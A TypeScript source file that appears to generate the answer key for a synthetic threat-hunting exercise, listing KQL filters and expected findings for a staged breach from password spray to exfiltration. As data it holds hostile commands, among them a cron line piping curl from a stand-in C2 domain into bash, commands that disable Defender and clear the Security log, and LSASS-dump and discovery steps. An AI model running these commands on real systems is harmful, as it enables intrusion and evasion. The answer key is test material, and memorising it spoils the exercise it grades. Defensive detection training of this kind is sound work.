/** The breach's items of the answer key. Filters are KQL and select exactly the tagged rows. */
import type { AnswerSpec } from "../answer-key.js";
import { isoOf } from "../calendar.js";
import type { Context } from "../context.js";
import { alertIdOf, vendorIdOf } from "../alert/alert.js";
import { linkedAlerts, storyAlerts, storyIncidentNumber } from "../alert/alert-plan.js";
import { hexLogonId } from "../endpoint/process.js";
import { apps, maliciousApp } from "../world/app.js";
import { sprayIps, storyIps } from "../world/site.js";
import { beaconTimes, c2, document, payloadSha256, phish, playersOf, serviceImage } from "./cast.js";
import { dcSyncLogonId } from "./chapters-endpoint.js";
import { phishTargets } from "./chapters-cloud.js";
import { indicatorIdOf } from "./intelligence.js";
import { threats } from "./threat.js";

export const quoteKql = (text: string): string => `@"${text.replaceAll('"', '""')}"`;
const listKql = (values: readonly string[]): string => values.map(quoteKql).join(", ");
export const between = (ctx: Context, from: readonly [number, string], to: readonly [number, string]): string =>
  `TimeGenerated between (datetime(${isoOf(ctx.calendar.at(...from))}) .. datetime(${isoOf(ctx.calendar.at(...to))}))`;

export function breachItems(ctx: Context): readonly AnswerSpec[] {
  return [...accessItems(ctx), ...hostItems(ctx), ...exitItems(ctx), ...alertItems(ctx)];
}

function accessItems(ctx: Context): readonly AnswerSpec[] {
  const { dana, marc } = playersOf(ctx);
  const accounts = ctx.world.accounts;
  const sprayed = `IPAddress startswith "203.0.113." and ${between(ctx, [-9, "03:00"], [-9, "05:20"])}`;
  const targets = phishTargets(ctx);
  return [
    {
      ...{
        id: "breach-spray",
        kind: "breach",
        title: "Slow password spray; svc-scan falls",
        techniques: ["T1110.003", "T1078.002"],
      },
      filters: {
        SigninLogs: `SigninLogs | where ${sprayed}`,
        AADNonInteractiveUserSignInLogs: `AADNonInteractiveUserSignInLogs | where ${sprayed}`,
      },
      keys: {
        accounts: 180,
        addresses: sprayIps,
        compromised: accounts["svc-scan"].upn,
        codes: ["50126", "50053", "50034", "50076", "0"],
      },
      entities: [
        { type: "account", value: accounts["svc-scan"].upn },
        ...sprayIps.map(value => ({ type: "ip", value }) as const),
      ],
      method: "password spray: many accounts, few failures each, per network in a window",
      expectation: "One spray from 203.0.113.64/27 over about 180 accounts, with exactly one success: svc-scan.",
    },
    {
      ...{
        id: "breach-directory",
        kind: "breach",
        title: "svc-scan reads users, groups and finance's org chart through Graph",
        techniques: ["T1087.004"],
      },
      filters: {
        SigninLogs: `SigninLogs | where IPAddress == ${quoteKql(sprayIps[11]!)} and ${between(ctx, [-8, "02:00"], [-8, "03:00"])}`,
        MicrosoftGraphActivityLogs: `MicrosoftGraphActivityLogs | where UserId == ${quoteKql(accounts["svc-scan"].objectId)} and AppId == ${quoteKql(apps.graphPowerShell.id)}`,
      },
      keys: { account: accounts["svc-scan"].upn, ip: sprayIps[11]!, userAgent: "python-requests/2.31.0" },
      entities: [
        { type: "account", value: accounts["svc-scan"].upn },
        { type: "ip", value: sprayIps[11]! },
      ],
      method: "first-seen client and volume of directory reads per account",
      expectation: "A service account that never used Graph lists the directory and walks finance's managers.",
    },
    {
      ...{
        id: "breach-phishing",
        kind: "breach",
        title: "Payroll mail to fourteen people in finance; three click",
        techniques: ["T1566.002"],
      },
      filters: {
        EmailEvents: `EmailEvents | where SenderFromDomain == ${quoteKql(phish.domain)}`,
        EmailUrlInfo: `EmailUrlInfo | where UrlDomain == ${quoteKql(phish.domain)}`,
        UrlClickEvents: `UrlClickEvents | where Url == ${quoteKql(phish.url)}`,
        DeviceNetworkEvents: `DeviceNetworkEvents | where RemoteUrl == ${quoteKql(phish.domain)}`,
        CommonSecurityLog: `CommonSecurityLog | where DestinationHostName == ${quoteKql(phish.domain)}`,
      },
      keys: {
        sender: phish.sender,
        subject: phish.subject,
        recipients: targets.map(p => p.upn),
        clicked: [2, 5, 13].map(i => targets[i]!.upn),
      },
      entities: [
        { type: "domain", value: phish.domain },
        { type: "url", value: phish.url },
        { type: "ip", value: storyIps.phishMailer },
        ...targets.map(p => ({ type: "mailbox", value: p.upn }) as const),
      ],
      method: "first-seen sender domain that imitates the company; join of mail, link and click",
      expectation: "One campaign, fourteen recipients, three clicks; Dana Reyes is among the three.",
    },
    {
      ...{
        id: "breach-replayed-session",
        kind: "breach",
        title: "Dana Reyes' session replayed from Valparaíso",
        techniques: ["T1539", "T1550.004"],
      },
      filters: {
        SigninLogs: `SigninLogs | where IPAddress == ${quoteKql(storyIps.thief)}`,
        AADNonInteractiveUserSignInLogs: `AADNonInteractiveUserSignInLogs | where IPAddress == ${quoteKql(storyIps.thief)}`,
        AADUserRiskEvents: `AADUserRiskEvents | where IpAddress == ${quoteKql(storyIps.thief)}`,
      },
      keys: { account: dana.upn, ip: storyIps.thief, from: "Dublin", to: "Valparaíso", minutesApart: 41 },
      entities: [
        { type: "account", value: dana.upn },
        { type: "ip", value: storyIps.thief },
      ],
      method: "impossible travel; new device and user agent with MFA satisfied by claim",
      expectation: "Dublin 08:50 to Valparaíso 09:31: about 11,600 km in 41 minutes, one account.",
    },
    {
      ...{
        id: "breach-inbox-rule",
        kind: "breach",
        title: "Rule '.', forwarding outside, and a session unlike any other",
        techniques: ["T1564.008", "T1114.003"],
      },
      filters: {
        OfficeActivity: `OfficeActivity | where UserId == ${quoteKql(dana.upn)} and ClientIP startswith ${quoteKql(storyIps.thief)} and OfficeWorkload == "Exchange"`,
        CloudAppEvents: `CloudAppEvents | where AccountId == ${quoteKql(dana.upn)} and IPAddress == ${quoteKql(storyIps.thief)} and Application == "Microsoft Exchange Online"`,
      },
      keys: { account: dana.upn, ruleName: ".", forwardedTo: "d.reyes.archive@mailvault.example", folder: "RSS Feeds" },
      entities: [
        { type: "mailbox", value: dana.upn },
        { type: "ip", value: storyIps.thief },
      ],
      method: "rare session (sequence model over operations)",
      expectation: "The session scores as the rarest of the fortnight; its rule and forwarding are named.",
    },
    {
      ...{
        id: "breach-consent",
        kind: "breach",
        title: "Consent to 'Mail Archiver Pro', which then reads the mailbox",
        techniques: ["T1528"],
      },
      filters: {
        AuditLogs: `AuditLogs | where tostring(TargetResources[0].displayName) == ${quoteKql(maliciousApp.name)}`,
        MicrosoftGraphActivityLogs: `MicrosoftGraphActivityLogs | where AppId == ${quoteKql(maliciousApp.id)}`,
      },
      keys: {
        application: maliciousApp.name,
        appId: maliciousApp.id,
        scopes: "Mail.Read offline_access User.Read",
        account: dana.upn,
      },
      entities: [
        { type: "application", value: maliciousApp.id },
        { type: "account", value: dana.upn },
        { type: "ip", value: storyIps.thief },
      ],
      method: "consent to an application that nobody else uses, with mail scopes",
      expectation:
        "One consent stands out among the ordinary ones: first-seen application, mail scope, from the thief's address.",
    },
    {
      ...{
        id: "breach-macro",
        kind: "breach",
        title: "Marc Oliver opens Q3-adjustments.xlsm; EXCEL starts encoded PowerShell",
        techniques: ["T1204.002", "T1059.001", "T1027"],
      },
      filters: macroFilters(ctx),
      keys: {
        host: "WKS-0042",
        account: marc.upn,
        document: document.name,
        processIds: [playersOf(ctx).excel.pid, playersOf(ctx).stage1.pid, playersOf(ctx).stage2.pid],
        url: c2.url,
        ip: c2.ip,
        sha256: payloadSha256,
      },
      entities: [
        { type: "host", value: "WKS-0042" },
        { type: "account", value: marc.upn },
        { type: "file", value: document.name },
        { type: "url", value: c2.url },
        { type: "ip", value: c2.ip },
      ],
      method: "process-tree path; decoding nested Base64 (UTF-16, gzip)",
      expectation:
        "EXCEL.EXE → powershell.exe -enc → powershell.exe; decoding twice gives the URL, the address and the hash.",
    },
  ];
}

function macroFilters(ctx: Context): AnswerSpec["filters"] {
  const { excel, stage1, stage2, desk } = playersOf(ctx);
  const pids = [excel, stage1, stage2].map(p => p.pid);
  const when = between(ctx, [-4, "14:00"], [-4, "14:10"]);
  const device = `DeviceName == ${quoteKql(desk.deviceName)}`;
  return {
    OfficeActivity: `OfficeActivity | where SourceFileName == ${quoteKql(document.name)}`,
    CloudAppEvents: `CloudAppEvents | where ObjectName == ${quoteKql(document.name)}`,
    DeviceProcessEvents: `DeviceProcessEvents | where ${device} and ProcessId in (${pids.join(", ")}) and ${when}`,
    SecurityEvent: `SecurityEvent | where EventID == 4688 and Computer == ${quoteKql(desk.fqdn)} and NewProcessId in (${listKql(pids.map(p => `0x${p.toString(16)}`))}) and ${when}`,
    DeviceFileEvents: `DeviceFileEvents | where ${device} and (FileName == ${quoteKql(document.name)} or SHA256 == ${quoteKql(payloadSha256)})`,
    DeviceEvents: `DeviceEvents | where ${device} and ActionType == "AmsiScriptDetection"`,
  };
}

function hostItems(ctx: Context): readonly AnswerSpec[] {
  const { desk, deskIp, marc, fileServer, fileServerIp, service, serviceShell } = playersOf(ctx);
  const accounts = ctx.world.accounts;
  const device = `DeviceName == ${quoteKql(desk.deviceName)}`;
  const night = between(ctx, [-3, "02:10"], [-3, "02:12"]);
  const dump = between(ctx, [-3, "02:40"], [-3, "02:41"]);
  const move = between(ctx, [-3, "03:05"], [-3, "03:12"]);
  const from = quoteKql(deskIp(-3));
  return [
    {
      ...{
        id: "breach-beacon",
        kind: "breach",
        title: "Beacon from WKS-0042 every 60 s ± 10 %",
        techniques: ["T1071.001", "T1573"],
      },
      filters: {
        DeviceNetworkEvents: `DeviceNetworkEvents | where RemoteIP == ${quoteKql(c2.ip)}`,
        CommonSecurityLog: `CommonSecurityLog | where DestinationIP == ${quoteKql(c2.ip)}`,
        DnsEvents: `DnsEvents | where Name == ${quoteKql(c2.domain)}`,
        ASimDnsActivityLogs: `ASimDnsActivityLogs | where DnsQuery == ${quoteKql(c2.domain)}`,
      },
      keys: {
        source: "WKS-0042",
        destination: c2.ip,
        domain: c2.domain,
        port: 443,
        periodSeconds: 60,
        jitter: 0.1,
        contacts: beaconTimes(ctx).length,
      },
      entities: [
        { type: "host", value: "WKS-0042" },
        { type: "ip", value: c2.ip },
        { type: "domain", value: c2.domain },
      ],
      method: "beaconing: gaps between contacts of a pair, with sleep and sensor silence taken out",
      expectation:
        "Pair WKS-0042 → 198.51.100.140:443, period 60 s, jitter 10 %, constant small sizes; the pauses are sleep.",
    },
    {
      ...{
        id: "breach-discovery",
        kind: "breach",
        title: "Four questions about the domain in 90 seconds, at night",
        techniques: ["T1033", "T1482", "T1069.002"],
      },
      filters: {
        DeviceProcessEvents: `DeviceProcessEvents | where ${device} and ${night}`,
        SecurityEvent: `SecurityEvent | where EventID == 4688 and Computer == ${quoteKql(desk.fqdn)} and ${night}`,
      },
      keys: {
        host: "WKS-0042",
        account: marc.upn,
        commands: ["whoami /all", "nltest /dclist", 'net group "Domain Admins"', "quser"],
      },
      entities: [
        { type: "host", value: "WKS-0042" },
        { type: "account", value: marc.upn },
      ],
      method: "first-seen process for user, host and hour; rare process lines",
      expectation:
        "whoami, nltest, net and quser by a finance user on a Saturday at 02:10, all children of the beacon.",
    },
    {
      ...{
        id: "breach-lsass",
        kind: "breach",
        title: "LSASS memory written to a file with comsvcs.dll",
        techniques: ["T1003.001"],
      },
      filters: {
        DeviceProcessEvents: `DeviceProcessEvents | where ${device} and ${dump}`,
        SecurityEvent: `SecurityEvent | where EventID == 4688 and Computer == ${quoteKql(desk.fqdn)} and ${dump}`,
        DeviceEvents: `DeviceEvents | where ${device} and ${dump}`,
        DeviceFileEvents: `DeviceFileEvents | where ${device} and FileName == "wu.dmp"`,
      },
      keys: { host: "WKS-0042", exposed: accounts["adm-desk1"].upn, file: "C:\\Windows\\Temp\\wu.dmp" },
      entities: [
        { type: "host", value: "WKS-0042" },
        { type: "account", value: accounts["adm-desk1"].upn },
        { type: "file", value: "C:\\Windows\\Temp\\wu.dmp" },
      ],
      method: "process-tree path and command line; alert follow-up",
      expectation: "adm-desk1 logged on here on D-4, so the dump holds its credential.",
    },
    {
      ...{
        id: "breach-lateral",
        kind: "breach",
        title: "adm-desk1 from WKS-0042 to FS01; service WinUpdSvc; a script with a password",
        techniques: ["T1021.002", "T1543.003", "T1552.001"],
      },
      filters: {
        SecurityEvent: `SecurityEvent | where Computer == ${quoteKql(fileServer.fqdn)} and ${move} and ((EventID == 4624 and IpAddress == ${from}) or (EventID == 4672 and SubjectUserName == "adm-desk1") or (EventID == 4688 and NewProcessId in (${listKql([service, serviceShell].map(p => `0x${p.pid.toString(16)}`))})))`,
        DeviceLogonEvents: `DeviceLogonEvents | where DeviceName == ${quoteKql(fileServer.deviceName)} and AccountName == "adm-desk1" and ${move}`,
        IdentityLogonEvents: `IdentityLogonEvents | where AccountName == "adm-desk1" and TargetDeviceName == ${quoteKql(fileServer.deviceName)}`,
        DeviceNetworkEvents: `DeviceNetworkEvents | where ${device} and RemoteIP == ${quoteKql(fileServerIp)} and InitiatingProcessFileName == "powershell.exe"`,
        DeviceFileEvents: `DeviceFileEvents | where FolderPath == ${quoteKql(serviceImage().path)}`,
        DeviceProcessEvents: `DeviceProcessEvents | where DeviceName == ${quoteKql(fileServer.deviceName)} and ProcessId in (${service.pid}, ${serviceShell.pid}) and ${move}`,
        Event: `Event | where EventID == 7045 and RenderedDescription has "WinUpdSvc"`,
      },
      keys: {
        from: "WKS-0042",
        to: "FS01",
        account: accounts["adm-desk1"].upn,
        service: "WinUpdSvc",
        image: serviceImage().path,
      },
      entities: [
        { type: "host", value: "WKS-0042" },
        { type: "host", value: "FS01" },
        { type: "account", value: accounts["adm-desk1"].upn },
      ],
      method: "logon path: accounts crossing from a workstation to a server for the first time",
      expectation:
        "Three NTLM network logons of adm-desk1 from WKS-0042's address, then a service that starts winupdsvc.exe as SYSTEM.",
    },
    {
      ...{ id: "breach-dcsync", kind: "breach", title: "DCSync as MSOL_sync from FS01", techniques: ["T1003.006"] },
      filters: {
        SecurityEvent: `SecurityEvent | where (EventID == 4662 and SubjectLogonId == "${hexLogonId(dcSyncLogonId)}") or (EventID == 4624 and TargetLogonId == "${hexLogonId(dcSyncLogonId)}")`,
      },
      keys: {
        account: "MSOL_sync",
        from: "FS01",
        address: fileServerIp,
        logonId: hexLogonId(dcSyncLogonId),
        rights: ["1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2"],
      },
      entities: [
        { type: "account", value: accounts.MSOL_sync.upn },
        { type: "host", value: "FS01" },
        { type: "host", value: "DC01" },
      ],
      method: "replication from the wrong host: 4662 joined to its 4624 by logon id",
      expectation: "MSOL_sync replicates all day from AADC01; only this logon comes from FS01.",
    },
    {
      ...{
        id: "breach-new-admin",
        kind: "breach",
        title: "adm-helpdesk2 is created and becomes a domain administrator",
        techniques: ["T1136.002", "T1098"],
      },
      filters: {
        SecurityEvent: `SecurityEvent | where (EventID in (4720, 4722, 4724) and TargetUserName == "adm-helpdesk2") or (EventID == 4728 and MemberSid == ${quoteKql(accounts["adm-helpdesk2"].sid)}) or (EventID == 4624 and TargetUserName == "adm-domain1" and IpAddress == ${quoteKql(fileServerIp)})`,
      },
      keys: {
        created: accounts["adm-helpdesk2"].sam,
        by: accounts["adm-domain1"].sam,
        group: "Domain Admins",
        from: fileServerIp,
      },
      entities: [
        { type: "account", value: accounts["adm-helpdesk2"].upn },
        { type: "account", value: accounts["adm-domain1"].upn },
      ],
      method: "privilege change outside working hours, by an actor who never creates accounts",
      expectation:
        "Among the help desk's accounts one is made on a Sunday at 05:48 by adm-domain1 from FS01, and joins Domain Admins.",
    },
  ];
}

function exitItems(ctx: Context): readonly AnswerSpec[] {
  const { fileServer, fileServerIp } = playersOf(ctx);
  const linux = ctx.world.server("LNX-WEB01");
  const server = `DeviceName == ${quoteKql(fileServer.deviceName)}`;
  const night = between(ctx, [-2, "23:00"], [-2, "23:46"]);
  const archive = between(ctx, [-1, "01:00"], [-1, "01:20"]);
  const off = between(ctx, [-1, "05:10"], [-1, "05:11"]);
  const drop = quoteKql(storyIps.dropStorage);
  return [
    {
      ...{
        id: "breach-linux",
        kind: "breach",
        title: "SSH from FS01 to LNX-WEB01, root, and a cron line that pipes curl into bash",
        techniques: ["T1021.004", "T1552.004", "T1053.003"],
      },
      filters: {
        Syslog: `Syslog | where Computer == ${quoteKql(linux.deviceName)} and ${night} and ((ProcessName in ("sshd", "sudo", "crontab") and ProcessID in (41877, 41902, 41941)) or SyslogMessage has "cdn-telemetry.example" or SyslogMessage matches regex @":7712[0-9][0-9]\\)")`,
      },
      keys: {
        from: fileServerIp,
        to: "LNX-WEB01",
        account: "deploy",
        cron: `curl -fsS https://${c2.domain}/assets/h.sh | bash`,
      },
      entities: [
        { type: "host", value: "LNX-WEB01" },
        { type: "ip", value: fileServerIp },
        { type: "domain", value: c2.domain },
      ],
      method: "sudo session: everything between a first-seen ssh source and its logout",
      expectation:
        "A session of deploy from a Windows file server becomes root, reads the deployment script's AWS key and leaves a cron line.",
    },
    {
      ...{
        id: "breach-archive",
        kind: "breach",
        title: "Six 7-Zip archives of finance's shares on FS01",
        techniques: ["T1560.001"],
      },
      filters: {
        DeviceProcessEvents: `DeviceProcessEvents | where ${server} and FileName == "7z.exe" and ${archive}`,
        SecurityEvent: `SecurityEvent | where EventID == 4688 and Computer == ${quoteKql(fileServer.fqdn)} and Process == "7z.exe" and ${archive}`,
        DeviceFileEvents: `DeviceFileEvents | where ${server} and FileName startswith "fin-" and FileName endswith ".7z"`,
      },
      keys: { host: "FS01", archives: 6, bytes: 18_000_000_000 },
      entities: [{ type: "host", value: "FS01" }],
      method: "first-seen process on a server; command line",
      expectation: "7z with a password and split volumes, run by the installed service as SYSTEM.",
    },
    {
      ...{
        id: "breach-exfiltration",
        kind: "breach",
        title: "18 GB from FS01 through the proxy",
        techniques: ["T1567.002"],
      },
      filters: {
        CommonSecurityLog: `CommonSecurityLog | where DestinationIP == ${drop}`,
        DeviceNetworkEvents: `DeviceNetworkEvents | where RemoteIP == ${drop}`,
        NTANetAnalytics: `NTANetAnalytics | where DestPublicIps startswith ${quoteKql(`${storyIps.dropStorage}|`)}`,
        AzureNetworkAnalytics_CL: `AzureNetworkAnalytics_CL | where PublicIPs_s == ${drop}`,
        DnsEvents: `DnsEvents | where Name == "eu2.dropstash.example"`,
      },
      keys: { host: "FS01", destination: storyIps.dropStorage, bytes: 18_000_000_000, hours: ["01", "02"] },
      entities: [
        { type: "host", value: "FS01" },
        { type: "ip", value: storyIps.dropStorage },
        { type: "domain", value: "eu2.dropstash.example" },
      ],
      method: "volume anomaly by hour and host, with the weekly backup as a season",
      expectation: "Monday 01:22–02:58 UTC, FS01 to 192.0.2.77; the larger Sunday backup of BKP01 is not an anomaly.",
    },
    {
      ...{
        id: "breach-blob-copy",
        kind: "breach",
        title: "6,000 objects from Contoso's own container with a stolen SAS",
        techniques: ["T1530"],
      },
      filters: {
        StorageBlobLogs: `StorageBlobLogs | where CallerIpAddress startswith ${quoteKql(`${storyIps.copier}:`)}`,
      },
      keys: { account: "contosodata", container: "finance-archive", objects: 6000, ip: storyIps.copier },
      entities: [
        { type: "storage", value: "contosodata" },
        { type: "ip", value: storyIps.copier },
      ],
      method: "volume anomaly and first-seen address and user agent per container",
      expectation: "6,000 GetBlob in 36 minutes by AzCopy from an address never seen before.",
    },
    {
      ...{
        id: "breach-bucket-copy",
        kind: "breach",
        title: "2 GB from S3 with the deployment key",
        techniques: ["T1530", "T1078.004"],
      },
      filters: { AWSCloudTrail: `AWSCloudTrail | where SourceIpAddress == ${quoteKql(storyIps.copier)}` },
      keys: {
        accessKeyId: "AKIAIOSFODNN7EXAMPLE",
        user: "deploy-web",
        bucket: "contoso-finance-exports",
        objects: 400,
        bytes: 2_000_000_000,
        ip: storyIps.copier,
      },
      entities: [
        { type: "account", value: "deploy-web" },
        { type: "storage", value: "contoso-finance-exports" },
        { type: "ip", value: storyIps.copier },
      ],
      method: "access key used from a first-seen address; volume by hour",
      expectation: "The key that always comes from Seattle's egress reads another bucket from 203.0.113.140.",
    },
    {
      ...{
        id: "breach-tampering",
        kind: "breach",
        title: "Real-time protection off, Security log cleared",
        techniques: ["T1562.001", "T1070.001"],
      },
      filters: {
        DeviceProcessEvents: `DeviceProcessEvents | where ${server} and ${off} and InitiatingProcessFileName == "winupdsvc.exe"`,
        DeviceRegistryEvents: `DeviceRegistryEvents | where ${server} and RegistryValueName == "DisableRealtimeMonitoring"`,
        DeviceEvents: `DeviceEvents | where ${server} and ActionType == "TamperingAttempt"`,
        SecurityEvent: `SecurityEvent | where Computer == ${quoteKql(fileServer.fqdn)} and ${off} and (EventID == 1102 or (EventID == 4688 and Process in ("powershell.exe", "wevtutil.exe") and ParentProcessName == ${quoteKql(serviceImage().path)}))`,
      },
      keys: { host: "FS01", commands: ["Set-MpPreference -DisableRealtimeMonitoring $true", "wevtutil cl Security"] },
      entities: [{ type: "host", value: "FS01" }],
      method: "named events (1102, tampering) and command lines",
      expectation: "Both within a minute on FS01, by the installed service.",
    },
  ];
}

function alertItems(ctx: Context): readonly AnswerSpec[] {
  const alerts = storyAlerts(ctx);
  const ids = alerts.map(a => alertIdOf(ctx, a));
  const defender = alerts.filter(a => a.product !== "sentinel" && a.product !== "asc").map(a => vendorIdOf(ctx, a));
  const linked = alerts.filter(a => (linkedAlerts as readonly string[]).includes(a.key)).map(a => alertIdOf(ctx, a));
  const indicators = Object.values(threats).map(t => indicatorIdOf(ctx, t.value));
  return [
    {
      ...{
        id: "breach-alerts",
        kind: "breach",
        title: "Eleven alerts, each minutes after its cause",
        techniques: [...new Set(alerts.flatMap(a => a.techniques))],
      },
      filters: {
        SecurityAlert: `SecurityAlert | where SystemAlertId in (${listKql(ids)})`,
        AlertInfo: `AlertInfo | where AlertId in (${listKql(defender)})`,
        AlertEvidence: `AlertEvidence | where AlertId in (${listKql(defender)})`,
      },
      keys: { alerts: ids },
      entities: [],
      method: "alert triage: the related entities of each alert",
      expectation: "These eleven belong together; the other alerts of the fortnight do not.",
    },
    {
      ...{
        id: "breach-incident",
        kind: "breach",
        title: "One incident links six of the eleven alerts",
        techniques: [],
      },
      filters: { SecurityIncident: `SecurityIncident | where IncidentNumber == ${storyIncidentNumber}` },
      keys: { incidentNumber: storyIncidentNumber, alerts: linked },
      entities: [{ type: "incident", value: String(storyIncidentNumber) }],
      method: "latest row per incident (arg_max), then its alerts",
      expectation: "Six rows of one incident; the last one lists six alerts.",
    },
    {
      ...{
        id: "breach-threat-intelligence",
        kind: "breach",
        title: "Five indicators: three active, one expired, one of shared hosting",
        techniques: [],
      },
      filters: {
        ThreatIntelIndicators: `ThreatIntelIndicators | where Id in (${listKql(indicators)})`,
        ThreatIntelligenceIndicator: `ThreatIntelligenceIndicator | where ExternalIndicatorId in (${listKql(indicators)})`,
      },
      keys: {
        active: [threats.c2Ip.value, threats.c2Domain.value, threats.payload.value],
        expired: threats.thiefIp.value,
        sharedHosting: threats.sharedHosting.value,
      },
      entities: Object.values(threats).map(
        t =>
          ({
            type: t.key === "domain-name:value" ? "domain" : t.key === "ipv4-addr:value" ? "ip" : "file",
            value: t.value,
          }) as const,
      ),
      method: "threat-intelligence match, with validity and confidence",
      expectation:
        "The three active ones are hits; the expired one is a hit of its time, said so; the shared address alone is no verdict.",
    },
  ];
}
